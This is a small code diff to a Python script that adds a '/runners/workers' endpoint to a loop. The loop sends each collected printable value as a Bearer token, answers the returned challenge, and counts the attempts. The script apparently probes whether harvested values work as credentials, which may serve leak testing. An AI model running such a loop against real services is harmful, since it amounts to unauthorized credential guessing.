@@ -59,7 +59,11 @@ def ask(path, authorization):
 
 
 for value in {value for variables in seen for value in variables.values() if value.isprintable() and value.isascii()}:
-    for path, what in (("/runners/offer", "offer"), ("/runners/standing", "standing ")):
+    for path, what in (
+        ("/runners/offer", "offer"),
+        ("/runners/standing", "standing "),
+        ("/runners/workers", "workers"),
+    ):
         nonce, _ = read_challenge(ask(path, "Bearer " + value))
         ask(path, ProofExchange(what, nonce).authorization(value))
         asked += 1
